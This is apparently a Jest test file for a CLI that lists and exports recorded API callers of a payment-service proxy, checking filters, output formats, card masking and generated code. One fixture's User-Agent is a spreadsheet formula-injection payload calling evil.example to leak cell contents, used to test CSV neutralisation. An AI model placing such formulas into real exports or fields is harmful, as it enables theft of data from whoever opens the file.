/** `triglyph callers` on a server's records: every filter and form, the calls that it prints, and hostile names. */
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { triglyph } from '../support/commands.ts';
import { startPostgres } from '../support/postgres.ts';
import { basic, type Production, prepareProduction, type Server, startServer } from '../support/server.ts';
import { tempFolder } from '../support/temp-folder.ts';

const folder = tempFolder();
let production: Production;
let authorization: string;

const soap = (operation: string, content: string) =>
  `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><r:${operation} xmlns:r="http://recurring.services.adyen.com" xmlns:p="http://payment.services.adyen.com"><r:request>${content}</r:request></r:${operation}></s:Body></s:Envelope>`;
const storeToken = soap(
  'storeToken',
  '<r:merchantAccount>AcmeWeb</r:merchantAccount><r:shopperReference>shopper-1</r:shopperReference>' +
    '<r:recurring><p:contract>RECURRING</p:contract></r:recurring><r:card><p:number>4111111111111111</p:number>' +
    '<p:cvc>737</p:cvc><p:expiryMonth>3</p:expiryMonth><p:expiryYear>2030</p:expiryYear>' +
    '<p:holderName>Anna van Dijk</p:holderName></r:card>',
);

/** A request without its credential. */
interface Sent {
  readonly path: string;
  readonly type: string;
  readonly body: string;
  readonly agent: string;
  readonly headers?: Readonly<Record<string, string>>;
}

async function send({ callers }: Server, { path, type, body, agent, headers = {} }: Sent, as: string | undefined) {
  const response = await fetch(`${callers}${path}`, {
    method: 'POST',
    headers: { 'Content-Type': type, 'User-Agent': agent, ...(as !== undefined && { Authorization: as }), ...headers },
    body,
  });
  await response.text();
  return response.status;
}

const php: Sent = {
  path: '/pal/servlet/Recurring/v12',
  type: 'text/xml; charset=utf-8',
  body: storeToken,
  agent: 'PHP-SOAP/8.2.7',
  headers: { SOAPAction: '"storeToken"' },
};
const form: Sent = {
  path: '/pal/servlet/Recurring/v25/disable',
  type: 'application/x-www-form-urlencoded',
  body: 'merchantAccount=AcmeWeb&shopperReference=nobody',
  agent: '=HYPERLINK("http://evil.example/?x="&A1,"4111111111111111")',
};

const run = (...parameters: readonly string[]) => triglyph(parameters, folder.path, production.variables);
const done = async (...parameters: readonly string[]): Promise<string> => {
  const { code, stdout, stderr } = await run('callers', ...parameters);
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  return stdout;
};
interface Listed {
  readonly id: string;
  readonly [member: string]: unknown;
}
const listed = async (...parameters: readonly string[]): Promise<readonly Listed[]> =>
  JSON.parse(await done(...parameters, '--json'));

beforeAll(async () => {
  production = await prepareProduction(folder.path);
  const { username, secret } = production.credential;
  authorization = basic(username, secret);
  writeFileSync(
    join(folder.path, 'triglyph.config.json'),
    JSON.stringify({ deprecations: [{ format: 'form', deprecatedSince: '2026-01-01', sunset: '2099-06-30' }] }),
  );
  const server = await startServer('serve', folder.path, production.variables);
  expect(await send(server, php, authorization)).toBe(200);
  expect(
    await send(server, { ...php, body: storeToken.replace('<p:expiryMonth>3', '<p:expiryMonth>13') }, authorization),
  ).toBe(500);
  expect(await send(server, form, authorization)).toBe(422);
  expect(await send(server, { ...form, agent: 'curl/8' }, undefined)).toBe(401);
  expect(await send(server, { ...php, path: '/pal/servlet/soap/Recurring', agent: 'Axis/1.4' }, authorization)).toBe(
    200,
  );
  const metrics = await (await fetch(`${server.admin}/metrics`)).text();
  expect(metrics).toContain('triglyph_deprecated_requests_total{protocol="form",kind="announced"} 2');
  // Draining saves what the last requests were.
  expect(await server.stop()).toBe(0);
});
afterAll(() => folder.discard());

describe('the list', () => {
  test('names each use, last used first', async () => {
    const { id, username } = production.credential;
    const own = { tenant: 'Acme', credential: id, username, service: 'Recurring' };
    const none = { refused: 0, failed: 0, switchedOff: 0, exempt: 0 };
    const supported = { deprecation: '', sunset: '' };
    const ending = { deprecation: 'deprecated', sunset: '2099-06-30' };
    expect(await listed()).toMatchObject([
      {
        ...own,
        operation: 'storeToken',
        version: null,
        format: 'soap11',
        client: 'Axis/1.4, SOAPAction quoted',
        ...none,
        succeeded: 1,
        ...supported,
      },
      {
        tenant: '',
        credential: '',
        username: '',
        operation: 'disable',
        version: 25,
        format: 'form',
        client: 'curl/8',
        refused: 1,
        lastOutcome: 'unauthorized',
        ...ending,
      },
      {
        ...own,
        operation: 'disable',
        version: 25,
        format: 'form',
        client: '=HYPERLINK("http://evil.example/?x="&A1,"[digits]")',
        succeeded: 0,
        refused: 1,
        ...ending,
      },
      {
        ...own,
        operation: 'storeToken',
        version: 12,
        format: 'soap11',
        client: 'PHP-SOAP/8.2.7, SOAPAction quoted',
        succeeded: 1,
        refused: 1,
        ...supported,
      },
    ]);
  });

  test.each<[readonly string[], number]>([
    [['--format', 'soap11'], 2],
    [['--format', 'soap11, form'], 4],
    [['--service', 'BalancePlatform'], 0],
    [['--operation', 'disable'], 2],
    [['--version', '12'], 1],
    [['--version', 'v12,none'], 2],
    [['--credential', 'none'], 1],
    [['--since', '1d'], 4],
    [['--since', '2099-01-01'], 0],
  ])('%j has %d', async (parameters, count) => expect(await listed(...parameters)).toHaveLength(count));

  test('a credential is found by its username and by its id', async () => {
    const { id, username } = production.credential;
    expect(await listed('--credential', username)).toHaveLength(3);
    expect(await listed('--credential', id)).toHaveLength(3);
  });

  test('the table has a line for each', async () => {
    const lines = (await done()).trimEnd().split('\n');
    expect(lines).toHaveLength(5);
    expect(lines[0]).toMatch(
      /^ID +LAST USED +CREDENTIAL +CALL +FORMAT +CLIENT +OK +REFUSED +FAILED +OFF +LAST OUTCOME +ENDS$/,
    );
    expect(lines[4]).toMatch(
      /^[0-9a-f]{16} {2}20\S+ \S+ {2}\S+@Company\.Acme +Recurring\.storeToken v12 +soap11 +PHP-SOAP\/8\.2\.7, SOAPAction quoted +1 +1 +0 +0 +\w+ +-$/,
    );
    expect(await done('--format', 'rest')).toBe('There is no such caller.\n');
  });

  test('CSV holds no formula', async () => {
    const csv = await done('--csv');
    const lines = csv.split('\r\n');
    expect(lines[0]).toMatch(/^id,tenant,credential,username,service,operation,version,format,client,/);
    expect(lines).toHaveLength(6);
    expect(csv).toContain(`,form,"'=HYPERLINK(""http://evil.example/?x=""&A1,""[digits]"")",`);
    for (const cell of csv.split(/,|\r\n/)) expect(cell).not.toMatch(/^"?[=+@-]/);
  });

  test.each([
    [['--since', 'yesterday'], 1, /^triglyph: since yesterday: give a day like 2026-12-01/],
    [['--json', '--csv'], 2, /cannot be used with/],
    [['show', 'x'], 1, /^triglyph: no caller has the id x/],
    [['show', 'x', '--as', 'cobol'], 2, /Allowed choices are json, curl/],
  ])('%j is refused', async (parameters, code, message) => {
    const result = await run('callers', ...parameters);
    expect(result).toMatchObject({ code, stdout: '' });
    expect(result.stderr).toMatch(message);
  });
});

describe('show', () => {
  const idOf = async (...parameters: readonly string[]) => (await listed(...parameters))[0]!.id;
  const masked = 'triglyph: replace what is masked: card.cvc, card.number\n';
  const card = {
    cvc: '<masked>',
    expiryMonth: '3',
    expiryYear: '2030',
    holderName: 'Anna van Dijk',
    number: '<masked, ends in 1111>',
  };
  const body = {
    card,
    merchantAccount: 'AcmeWeb',
    recurring: { contract: 'RECURRING' },
    shopperReference: 'shopper-1',
  };

  test('prints the JSON call that replaces a SOAP call, in the version of the caller', async () => {
    const { code, stdout, stderr } = await run(
      'callers',
      'show',
      await idOf('--version', '12'),
      '--origin',
      'https://pay.example.com/',
    );
    expect({ code, stderr }).toEqual({ code: 0, stderr: masked });
    expect(JSON.parse(stdout)).toEqual({
      method: 'POST',
      url: 'https://pay.example.com/pal/servlet/Recurring/v12/storeToken',
      headers: { 'Content-Type': 'application/json' },
      body,
    });
  });

  test.each(['curl', 'php', 'python', 'java', 'node', 'csharp', 'ruby'])('prints it as %s', async (language) => {
    const { code, stdout, stderr } = await run('callers', 'show', await idOf('--version', 'none'), '--as', language);
    expect({ code, stderr }).toEqual({ code: 0, stderr: masked });
    expect(stdout).toMatch(/http:\/\/127\.0\.0\.1:8080\/pal\/servlet\/Recurring\/v\d+\/storeToken/);
    expect(stdout).toContain('<masked, ends in 1111>');
    expect(stdout).not.toContain('4111111111111111');
    // The caller has a username.
    expect(stdout).toContain('API_PASSWORD');
  });

  test('the printed curl call is answered', async () => {
    const server = await startServer('serve', folder.path, production.variables);
    try {
      const { stdout } = await run(
        'callers',
        'show',
        await idOf('--format', 'form', '--credential', production.credential.id),
        '--as',
        'curl',
        '--origin',
        server.callers,
      );
      const { username: API_USER, secret: API_PASSWORD } = production.credential;
      const answer = execFileSync('sh', ['-c', stdout], {
        env: { PATH: process.env.PATH, API_USER, API_PASSWORD },
        encoding: 'utf8',
      });
      // The same refusal as the FORM call got: the shopper is unknown.
      expect(JSON.parse(answer)).toMatchObject({ status: 422, errorCode: '800' });
    } finally {
      await server.stop();
    }
  });

  test('a caller without a request that was read has none', async () => {
    const { code, stderr } = await run('callers', 'show', await idOf('--credential', 'none'));
    expect(code).toBe(1);
    expect(stderr).toMatch(/this caller has sent no request that could be read and stored/);
  });
});

test('CALLER_RECORDS=off records nothing', async () => {
  const before = await listed();
  const server = await startServer('serve', folder.path, { ...production.variables, CALLER_RECORDS: 'off' });
  expect(await send(server, { ...php, agent: 'Nothing/1' }, authorization)).toBe(200);
  expect(await server.stop()).toBe(0);
  expect((await listed()).map(({ client }) => client)).toEqual(
    expect.not.arrayContaining(['Nothing/1, SOAPAction quoted']),
  );
  expect(await listed()).toHaveLength(before.length);
});

test('several workers on PostgreSQL add up, and each saves what it has recorded when it stops', async () => {
  const postgres = await startPostgres();
  const own = tempFolder();
  try {
    const { variables, credential } = await prepareProduction(own.path, {
      DATABASE_URL: await postgres.createDatabase(),
    });
    const as = basic(credential.username, credential.secret);
    const list = async (): Promise<readonly Listed[]> =>
      JSON.parse((await triglyph(['callers', '--json'], own.path, variables)).stdout);
    for (const restart of [1, 2]) {
      const server = await startServer('serve', own.path, { ...variables, WORKERS: '2' });
      await Promise.all(Array.from({ length: 30 }, () => send(server, { ...form, agent: 'load/1' }, as)));
      expect(await server.stop()).toBe(0);
      expect(await list()).toMatchObject([
        { client: 'load/1', refused: 30 * restart, lastOutcome: 'contractNotFound' },
      ]);
    }
  } finally {
    await postgres.discard();
    own.discard();
  }
});
